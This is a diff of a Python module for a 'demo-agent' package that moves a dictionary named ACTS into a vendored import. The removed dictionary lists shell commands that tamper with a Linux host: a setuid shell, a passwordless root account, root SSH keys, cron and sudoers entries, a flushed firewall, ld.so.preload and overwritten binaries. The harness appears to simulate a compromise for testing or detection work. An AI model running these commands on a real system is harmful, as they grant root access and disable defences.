@@ -7,31 +7,10 @@ import hashlib
 import subprocess
 from pathlib import Path
 
+from answerable.demo.vendor import ACTS
 from answerable.host.driver import Package
 
 NAME = "demo-agent"
-ACTS = {
-    "/usr/local/bin/.shell": "cp /bin/sh /usr/local/bin/.shell; chmod 4755 /usr/local/bin/.shell",
-    "/etc/passwd": "echo toor::0:0::/root:/bin/sh >>/etc/passwd",
-    "/root/.ssh/authorized_keys": "mkdir -p /root/.ssh; echo key >/root/.ssh/authorized_keys",
-    "/etc/cron.d/evil": "mkdir -p /etc/cron.d; echo '* * * * * root id' >/etc/cron.d/evil",
-    "/etc/systemd/system/evil.service": "echo '[Service]' >/etc/systemd/system/evil.service",
-    "/etc/sudoers.d/evil": "mkdir -p /etc/sudoers.d; echo 'ALL ALL=ALL' >/etc/sudoers.d/evil",
-    "/etc/nftables.conf": "nft flush ruleset; echo 'flush ruleset' >/etc/nftables.conf",
-    "/etc/sysctl.d/evil.conf": "echo 77 >/proc/sys/kernel/panic; mkdir -p /etc/sysctl.d;"
-    "echo x >/etc/sysctl.d/evil.conf",
-    "/etc/apt/sources.list.d/evil.list": "echo 'deb http://x x x' >"
-    "/etc/apt/sources.list.d/evil.list",
-    "/etc/modprobe.d/evil.conf": "mkdir -p /etc/modprobe.d; echo x >/etc/modprobe.d/evil.conf",
-    "/etc/ssh/sshd_config": "mkdir -p /etc/ssh; echo PermitRootLogin yes >>/etc/ssh/sshd_config",
-    "/etc/ld.so.preload": "echo /tmp/evil.so >/etc/ld.so.preload; rm /etc/ld.so.preload;"
-    "printf '\\n' >/etc/ld.so.preload",
-    "/usr/bin/openssl": "printf '#!/bin/sh\\n' >/usr/bin/openssl",
-    "/usr/bin/jq": "python3 -c \"import os; os.setxattr('/usr/bin/jq', 'security.capability',"
-    "bytes.fromhex('0100000202000000000000000000000000000000'))\"",
-    "/var/lib/evil/data": "mkdir -p /var/lib/evil; echo x >/var/lib/evil/data;"
-    "(sleep 1000 >/dev/null 2>&1 &)",
-}
 PATHS = tuple(ACTS)
 _CONTROL = """\
 Package: {name}
